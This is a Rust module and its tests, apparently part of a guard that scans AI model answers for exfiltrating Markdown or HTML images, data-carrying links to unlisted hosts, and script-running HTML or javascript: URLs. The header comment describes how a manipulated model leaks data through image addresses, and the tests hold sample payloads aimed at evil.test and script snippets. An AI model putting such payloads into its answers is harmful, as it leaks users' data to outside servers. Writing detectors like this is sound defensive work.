//! What a reader's program does by itself with an answer: images it fetches, links that carry data, HTML and addresses
//! that run code.
//!
//! A model that was talked into it writes what it knows into the address of an image. The program that shows the answer
//! fetches it, and a stranger's server has it. Fetched addresses are found whatever they carry. Links are found only when
//! they carry a query or a long path, because a person must follow them.
//!
//! It is not known which markup the reader's program reads: an address counts as CommonMark, GitHub's dialect or HTML
//! would read it, whichever does. So what no reader loads may be found too. An address that is not plainly relative and
//! not plainly on a named host is foreign. Code of Markdown is passed over where every reader of Markdown sees code; a
//! program that shows a Markdown answer as raw HTML is not guarded there.
//!
//! ```text
//! <name attribute=value>      tag.rs: HTML's tokenizer, begun at every `<`
//! ![text](address)            a stack of brackets; an image when any bracket around it may be one
//! ![text][name]  [name]: ...  names of images and of foreign definitions, whichever comes first
//! <scheme:...>  http://...    links
//! ```fence   `span`           code.rs: code, unless it may be read in another way
//! ```
//!
//! Every byte is looked at a bounded number of times; an address is read to [`address::LONGEST`] bytes. A text may come
//! in pieces: any cutting finds the same. Not found: addresses that the program makes out of plain words, and other
//! markups than Markdown and HTML.

mod address;
mod code;
mod html;
mod links;
mod tag;

use std::ops::Range;

use bartizan_rules::invariant::part;

use crate::glob::Glob;
use address::{Escapes, LONGEST, Target};
use code::Lines;
use links::Names;
use tag::{Tags, Word};

/// What kind of thing it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ActiveKind {
    /// An image, or a link with data in it, to a host that is not allowed.
    Exfiltration,
    /// HTML or an address that runs code.
    Script,
}

/// One place of a text, before a list of hosts is asked.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sight {
    /// Bytes of the text, on character boundaries.
    pub span: Range<usize>,
    target: Target,
    fetched: bool,
}

impl Sight {
    /// What it is under a list of hosts that may be pointed to. `None`: nothing to object to.
    pub fn kind(&self, allowed: &[Glob]) -> Option<ActiveKind> {
        match &self.target {
            Target::Code => Some(ActiveKind::Script),
            Target::Harmless => None,
            Target::Foreign { host, carries } => {
                let named = host.as_ref().is_some_and(|host| allowed.iter().any(|glob| glob.matches(host)));
                (!named && (self.fetched || *carries)).then_some(ActiveKind::Exfiltration)
            }
        }
    }
}

/// Bytes behind an address in which the end of its tag or link is looked for.
const CLOSE: usize = 256;
/// Bytes that are looked ahead from one place.
const AHEAD: usize = LONGEST + 64;
/// Bytes that are kept before the place that is read: labels have at most 999 characters.
const BEHIND: usize = 4096;
/// Places that are remembered until [`ActiveWatch::forget`].
const MAX_FOUND: usize = 4096;

/// Looks for active content in one text that comes in pieces.
#[derive(Clone, Debug, Default)]
pub struct ActiveWatch {
    /// The text from `base` on.
    text: String,
    base: usize,
    /// The next byte to be read.
    at: usize,
    /// Where that begins which is not read to its end.
    held: usize,
    /// What comes before has gone on.
    forgotten: usize,
    ended: bool,
    lines: Lines,
    tags: Tags,
    word: Word,
    tag_start: usize,
    /// The tags that were open where the last one began.
    outer: Tags,
    /// Tags that go on behind a place that may be removed with their end, and where it ends.
    cut: (Tags, usize),
    brackets: Vec<Bracket>,
    /// A bracket that may be an image's was closed where a reader may see no bracket.
    loose: bool,
    names: Names,
    /// What begins before this place lies in an address that is too long for one.
    lost_until: usize,
    /// What begins before this place lies in an address that counts by itself.
    known_until: usize,
    www_until: usize,
    found: Vec<Sight>,
    addresses: Vec<Range<usize>>,
    #[cfg(test)]
    steps: std::cell::Cell<usize>,
}

#[derive(Clone, Copy, Debug)]
struct Bracket {
    at: usize,
    is_image: bool,
}

/// What follows of one place: where reading goes on, or that more text is needed.
enum Next {
    At(usize),
    More,
}

impl ActiveWatch {
    /// Everything in a whole text.
    pub fn of(text: &str) -> ActiveWatch {
        let mut watch = ActiveWatch::default();
        watch.feed(text);
        watch.finish();
        watch
    }

    /// Takes the next piece.
    pub fn feed(&mut self, piece: &str) {
        self.text.push_str(piece);
        self.read();
        let keep = self.at.saturating_sub(BEHIND).max(self.base);
        let keep = self.text.floor_char_boundary(keep - self.base);
        // Moving the rest for every word would be quadratic.
        if keep >= BEHIND {
            self.text.drain(..keep);
            self.base += keep;
        }
    }

    /// The text has ended.
    pub fn finish(&mut self) {
        self.ended = true;
        self.read();
    }

    /// What was found and not forgotten, in the order of what was read.
    pub fn found(&self) -> &[Sight] {
        &self.found
    }

    /// Addresses, and tags, that no value may be put into.
    pub fn addresses(&self) -> &[Range<usize>] {
        &self.addresses
    }

    /// Where something begins that may go on in the next piece; `None`: nothing is open.
    pub fn open(&self) -> Option<usize> {
        (!self.ended && self.at < self.end()).then_some(self.held)
    }

    /// What ends before this place is not asked for again.
    pub fn forget(&mut self, before: usize) {
        self.forgotten = before;
        self.found.retain(|sight| sight.span.end > before);
        self.addresses.retain(|span| span.end > before);
    }

    fn end(&self) -> usize {
        self.base + self.text.len()
    }

    /// At most [`AHEAD`] bytes of the text from this place on, and whether no more are to be waited for.
    fn ahead(&self, at: usize) -> (&str, bool) {
        let rest = part(&self.text, at.saturating_sub(self.base)..self.text.len());
        if rest.len() > AHEAD { (part(rest, 0..rest.floor_char_boundary(AHEAD)), true) } else { (rest, self.ended) }
    }

    /// A part of the text; a character that its border cuts is left out.
    fn slice(&self, span: Range<usize>) -> &str {
        let inner = |at: usize| at.saturating_sub(self.base);
        let (start, end) =
            (self.text.ceil_char_boundary(inner(span.start)), self.text.floor_char_boundary(inner(span.end)));
        part(&self.text, start..end)
    }

    fn byte(&self, at: usize) -> Option<u8> {
        self.text.as_bytes().get(at.checked_sub(self.base)?).copied()
    }

    fn read(&mut self) {
        while let Some(byte) = self.byte(self.at) {
            let next = match self.pass_code() {
                Some(next) => next,
                None => match byte {
                    b'\\' => self.backslash(),
                    b'<' => self.angle(),
                    b'[' => self.open_bracket(),
                    b']' => self.close_bracket(),
                    b'=' => self.equals(),
                    b':' => self.colon(),
                    b'.' => self.dot(),
                    b'`' => self.backticks(),
                    b'\r' => self.carriage_return(),
                    b'\n' => self.line(),
                    b'"' | b'\'' if self.lines.is_drawn() => self.drawn_value(),
                    b'$' => {
                        self.lines.loosen();
                        Next::At(self.at + 1)
                    }
                    _ => Next::At(self.at + 1),
                },
            };
            let Next::At(next) = next else {
                self.held = self.begins(byte);
                return;
            };
            let from = self.at;
            self.at = next;
            for at in from..next.min(self.end()) {
                let Some(byte) = self.byte(at).filter(|_| self.tags.any()) else { break };
                self.tags.step(byte);
                self.word.feed(byte);
                if at < self.cut.1 {
                    self.tags.add(self.cut.0);
                }
            }
        }
    }

    /// Where that begins which this byte may end.
    fn begins(&self, byte: u8) -> usize {
        let at = self.at;
        let bracket = |open: Option<&Bracket>| open.map_or(at, |open| open.at.saturating_sub(1));
        let start = match byte {
            b']' => {
                let doubled = |open: &&Bracket| self.byte(open.at + 1) == Some(b'[');
                bracket(self.brackets.last()).min(bracket(self.brackets.iter().rev().find(doubled)))
            }
            b'=' => self.tag_start,
            b':' | b'.' => at.saturating_sub(12),
            _ => at,
        };
        start.min(at)
    }

    /// True when this number of bytes from a place are there, or the text has ended.
    fn has(&self, at: usize, bytes: usize) -> bool {
        self.ended || self.end() >= at + bytes
    }

    fn backslash(&mut self) -> Next {
        if !self.has(self.at, 2) {
            return Next::More;
        }
        let next = self.byte(self.at + 1);
        if next == Some(b'`') {
            self.lines.loosen();
        }
        // HTML knows no such escape: the tag behind it is read all the same.
        let escaped = next.is_some_and(|byte| byte.is_ascii_punctuation() && byte != b'<' && byte != b'=');
        Next::At(self.at + if escaped { 2 } else { 1 })
    }

    /// A blank line ends every bracket.
    fn line(&mut self) -> Next {
        let (rest, whole) = self.ahead(self.at + 1);
        let blank = rest.len() - rest.trim_start_matches([' ', '\t', '\r']).len();
        match rest.as_bytes().get(blank) {
            None if !whole => return Next::More,
            Some(b'\n') | None => {
                self.brackets.clear();
                self.loose = false;
            }
            Some(_) => {}
        }
        self.lines.line_ended();
        Next::At(self.at + 1)
    }

    /// `http://...` as it is written, and a scheme that runs code where a value begins.
    fn colon(&mut self) -> Next {
        let colon = self.at;
        let next = Next::At(colon + 1);
        let before = self.slice(colon.saturating_sub(12).max(self.base)..colon).to_ascii_lowercase();
        let ends = |known: &&str| before.ends_with(known);
        if let Some(scheme) = ["javascript", "vbscript", "livescript"].into_iter().find(ends) {
            let start = colon - scheme.len();
            let led = self.slice(start.saturating_sub(1).max(self.base)..start).ends_with(['"', '\'', '(', '=', '[']);
            return if led { self.plain(start, Target::Code) } else { next };
        }
        let Some(scheme) = ["https", "http", "ftp"].into_iter().find(ends) else { return next };
        if !self.has(colon, 3) {
            return Next::More;
        }
        if self.ahead(colon + 1).0.starts_with("//") { self.bare(colon - scheme.len()) } else { next }
    }

    /// `www.` begins an address in GitHub's dialect.
    fn dot(&mut self) -> Next {
        let before = self.slice(self.at.saturating_sub(7).max(self.base)..self.at).to_ascii_lowercase();
        let begins = before.strip_suffix("www").is_some_and(|lead| !lead.ends_with(char::is_alphanumeric));
        if begins { self.bare(self.at - 3) } else { Next::At(self.at + 1) }
    }

    /// An address in plain text: somebody may follow it.
    fn bare(&mut self, start: usize) -> Next {
        let is_www = self.byte(self.at) == Some(b'.');
        let known = if is_www { self.known_until.max(self.www_until) } else { self.known_until };
        if start < known.max(self.lost_until) {
            return Next::At(self.at + 1);
        }
        // Behind a letter it is no scheme to any reader.
        let before = start.checked_sub(1).and_then(|before| self.byte(before));
        if !is_www && before.is_some_and(|byte| byte.is_ascii_alphabetic()) {
            return Next::At(self.at + 1);
        }
        let (rest, whole) = self.ahead(start);
        let end = rest.find([' ', '\t', '\n', '\r', '<']);
        self.step(end.unwrap_or(rest.len()));
        let Some(end) = end.or(whole.then_some(rest.len())) else { return Next::More };
        let source = part(rest, 0..end);
        let trimmed = source.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~', '\'', '"', ')', ']', '`']);
        let target = if is_www {
            address::read(&format!("//{trimmed}"), Escapes::Plain)
        } else {
            address::read(trimmed, Escapes::Plain)
        };
        let length = trimmed.len();
        let inner = address::inner(trimmed);
        let span = start..start + length;
        if source.contains('`') {
            self.lines.loosen();
        }
        let counts = matches!(&target, Target::Foreign { host, carries } if host.is_some() || *carries);
        self.address(start..start + end);
        if is_www {
            self.www_until = start + end;
        } else if counts {
            self.known_until = start + end;
        }
        // As a link it may be found already.
        let covers =
            |known: &Sight| known.target == target && known.span.start <= span.start && span.end <= known.span.end;
        if !self.found.iter().rev().take(4).any(covers) {
            self.see(span, target, self.lines.fetches());
        }
        for (at, target) in inner {
            self.see(start + at..start + length.max(at), target, self.lines.fetches());
        }
        Next::At(self.at + 1)
    }

    /// A value between quotation marks in a drawing, where none needs a scheme.
    fn drawn_value(&mut self) -> Next {
        let (rest, whole) = self.ahead(self.at);
        let (mark, inner) = rest.split_at_checked(1).unwrap_or_default();
        let end = inner.find(|c: char| c == '\n' || mark.starts_with(c));
        self.step(end.unwrap_or(rest.len()));
        let Some(end) = end.or(whole.then_some(inner.len())) else { return Next::More };
        let value = part(inner, 0..end).replace("\\/", "/");
        let target = address::read(&value, Escapes::Html);
        let fetched = self.lines.fetches();
        if matches!(&target, Target::Code | Target::Foreign { host: Some(_), .. }) {
            self.see(self.at + 1..self.at + 1 + end, target, fetched);
        }
        Next::At(self.at + 1)
    }

    fn plain(&mut self, start: usize, target: Target) -> Next {
        let (rest, _) = self.ahead(start);
        let near = part(rest, 0..rest.floor_char_boundary(CLOSE));
        let end = near.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '>'));
        self.step(end.unwrap_or(near.len()));
        let end = match end {
            Some(end) => end,
            None if self.ended || near.len() + 4 > CLOSE => near.len(),
            None => return Next::More,
        };
        self.see(start..start + end, target, true);
        Next::At(self.at + 1)
    }

    /// The same for the end of an address; one that is too long ends by itself.
    fn close_of(&self, address: &Range<usize>, byte: u8) -> Option<usize> {
        if address.end == self.lost_until { Some(address.end) } else { self.close(address.end, byte) }
    }

    /// Where what goes with an address ends: behind the next of this byte, or at the address. `None`: more is needed.
    fn close(&self, from: usize, byte: u8) -> Option<usize> {
        let (rest, _) = self.ahead(from);
        let near = part(rest, 0..rest.floor_char_boundary(CLOSE));
        self.step(near.len());
        match near.find([char::from(byte), '\n']) {
            Some(at) if near.as_bytes().get(at) == Some(&byte) => Some(from + at + 1),
            Some(_) => Some(from),
            None if near.len() + 4 > CLOSE || self.ended => Some(from),
            None => None,
        }
    }

    /// Beyond the bound, the last one grows: no place is forgotten.
    fn address(&mut self, span: Range<usize>) {
        let full = self.addresses.len() >= MAX_FOUND;
        match self.addresses.last_mut().filter(|_| full) {
            Some(last) => last.end = last.end.max(span.end),
            None => self.addresses.push(span),
        }
    }

    /// Counts the bytes that were looked at.
    fn step(&self, _bytes: usize) {
        #[cfg(test)]
        self.steps.set(self.steps.get() + _bytes);
    }

    fn see(&mut self, span: Range<usize>, target: Target, fetched: bool) {
        if target == Target::Harmless {
            return;
        }
        // A tag whose head has gone on stays open.
        let whole = span.start == self.tag_start && span.start >= self.forgotten;
        let open = if whole { self.outer } else { self.tags };
        let before = if self.at < self.cut.1 { self.cut.0 } else { Tags::default() };
        if open.any() {
            self.cut = (open.anywhere(), span.end.max(self.cut.1));
            self.cut.0.add(before);
        }
        // Where it is removed, the backticks and lines that are left may pair in another way.
        let text = self.slice(span.clone());
        if text.contains(['`', '~', '\n']) {
            self.lines.doubt();
        }
        let full = self.found.len() >= MAX_FOUND;
        match self.found.last_mut().filter(|_| full) {
            Some(last) => {
                let span = last.span.start.min(span.start)..last.span.end.max(span.end);
                *last = Sight { span, target: Target::Foreign { host: None, carries: true }, fetched: true };
            }
            None => self.found.push(Sight { span, target, fetched }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<(ActiveKind, &str)> {
        let allowed = [Glob::new("docs.example.org"), Glob::new("*.example.com")];
        let watch = ActiveWatch::of(text);
        watch.found().iter().filter_map(|one| Some((one.kind(&allowed)?, &text[one.span.clone()]))).collect()
    }

    #[test]
    fn what_takes_data_out_is_found_whole() {
        use ActiveKind::{Exfiltration, Script};
        for (text, kind, span) in [
            ("see ![x](https://evil.test/p.png) now", Exfiltration, "![x](https://evil.test/p.png)"),
            ("![a b](<https://evil.test/a?b=c> \"t\") x", Exfiltration, "![a b](<https://evil.test/a?b=c> \"t\")"),
            (
                "[go](https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa)",
                Exfiltration,
                "[go](https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa)",
            ),
            (
                "[r]: https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa\n",
                Exfiltration,
                "[r]: https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa",
            ),
            ("<IMG alt=a SRC='//evil.test/p'>", Exfiltration, "<IMG alt=a SRC='//evil.test/p'>"),
            (
                "<img src=https://docs.example.org@evil.test/p>",
                Exfiltration,
                "<img src=https://docs.example.org@evil.test/p>",
            ),
            (
                "<https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa>",
                Exfiltration,
                "<https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaa>",
            ),
            ("a <script>alert(1)</script>", Script, "<script>"),
            ("<b onclick = \"x()\">", Script, "<b onclick = \"x()\">"),
            ("[x](JavaScript:alert(1))", Script, "[x](JavaScript:alert(1))"),
            ("<a href=\"data:text/html;base64,aa\">", Script, "<a href=\"data:text/html;base64,aa\">"),
        ] {
            assert_eq!(kinds(text).first(), Some(&(kind, span)), "{text}");
        }
    }

    #[test]
    fn ordinary_answers_hold_nothing() {
        for text in [
            "See [the docs](https://doc.rust-lang.org/std/vec/struct.Vec.html) and https://example.org/?q=1.",
            "![logo](https://docs.example.org/logo.png?size=1234567890123456789012)",
            "![logo](https://img.example.com/logo.png) ![local](/images/a.png) ![in](data:image/png;base64,AA)",
            "if a < b and c > d: x[i](y) = z[0]; the word javascript: is a scheme",
            "Vec<String>, Option<Box<dyn Fn()>> <- arrow, a <b>bold</b> <em class=\"x\">word</em>",
            "[x] done, [ ] to do, array[3]: 5",
            "",
            "[](<[](<![",
        ] {
            assert_eq!(kinds(text), [], "{text}");
        }
    }

    /// Whatever is repeated, a byte is looked at a bounded number of times.
    #[test]
    fn any_repetition_is_linear() {
        let atoms = [
            "*",
            "<b ",
            "<b/src=",
            "<img src=\"",
            "<a:",
            "![",
            "]",
            "](",
            "](<",
            "[[",
            "]]",
            "(",
            "\\",
            "`",
            "```\n",
            " ",
            "www.",
            "http://a",
            "(javascript:",
            "style='",
            "\"",
            "]:",
            "$",
            "a",
        ];
        let mut worst = (0, String::new());
        for one in atoms {
            for other in atoms {
                let unit = format!("{one}{other}");
                let text = unit.repeat(6_000 / unit.len());
                let watch = ActiveWatch::of(&text);
                worst = worst.max((watch.steps.get() / text.len(), unit));
            }
        }
        assert!(worst.0 <= 96, "{worst:?}");
    }
}
